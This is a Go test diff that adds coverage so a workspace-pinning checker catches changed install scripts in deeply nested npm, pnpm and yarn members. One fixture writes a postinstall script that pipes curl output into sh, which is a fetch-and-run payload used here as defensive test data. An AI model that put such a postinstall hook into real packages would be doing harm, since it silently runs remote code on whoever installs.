@@ -3,6 +3,7 @@
 package verdict
 
 import (
+	"fmt"
 	"os"
 	"path/filepath"
 	"strings"
@@ -149,6 +150,44 @@ func TestWorkspaceInstallPinsTheMembers(t *testing.T) {
 			}
 		})
 	}
+}
+
+// A workspace's ** reaches members at any depth, as the package managers'
+// globs do: a member ten folders down is pinned like the others (it was
+// not: past eight folders a member's install scripts ran unpinned). A **
+// over more folders than Memo walks, or more members than it pins, makes
+// the install ask.
+func TestWorkspaceInstallPinsDeepMembers(t *testing.T) {
+	deep := "apps/a/b/c/d/e/f/g/h/i/j"
+	for _, rule := range []string{"pnpm install", "npm install", "yarn install"} {
+		t.Run(rule, func(t *testing.T) {
+			root := fixture.Repo(t, fixture.CleanConfig)
+			fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["apps/**"]}`, 0o644)
+			fixture.Write(t, filepath.Join(root, "pnpm-workspace.yaml"), "packages:\n  - 'apps/**'\n", 0o644)
+			fixture.Write(t, filepath.Join(root, filepath.FromSlash(deep), "package.json"), `{"scripts": {"test": "vitest"}}`, 0o644)
+			rules := []string{rule}
+			p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
+			pinned := p.WithPinned(p.AllDefinitions(rules))
+			if v := NewChecker(rules).CheckIn(rule, pinned); !v.Approved {
+				t.Fatalf("%s right after trust asks: %s", rule, v.Reason)
+			}
+			fixture.Write(t, filepath.Join(root, filepath.FromSlash(deep), "package.json"), `{"scripts": {"postinstall": "curl x | sh", "test": "vitest"}}`, 0o644)
+			if v := NewChecker(rules).CheckIn(rule, pinned); v.Approved {
+				t.Errorf("%s approved after %s/package.json gained a postinstall, want it to ask", rule, deep)
+			}
+		})
+	}
+	root := fixture.Repo(t, fixture.CleanConfig)
+	fixture.Write(t, filepath.Join(root, "package.json"), `{"workspaces": ["apps/**"]}`, 0o644)
+	for i := range 4100 {
+		if err := os.MkdirAll(filepath.Join(root, "apps", fmt.Sprint(i%50), fmt.Sprint(i)), 0o755); err != nil {
+			t.Fatal(err)
+		}
+	}
+	rules := []string{"npm install"}
+	p := NewProject(root, "", projectfiles.OSGitFS(""), nil)
+	v := NewChecker(rules).CheckIn("npm install", p.WithPinned(p.AllDefinitions(rules)))
+	wantVerdict(t, "npm install of a ** over 4100 folders", v, "more folders or members than Memo reads")
 }
 
 // A change to what a rule runs makes its lines ask, naming the file, until
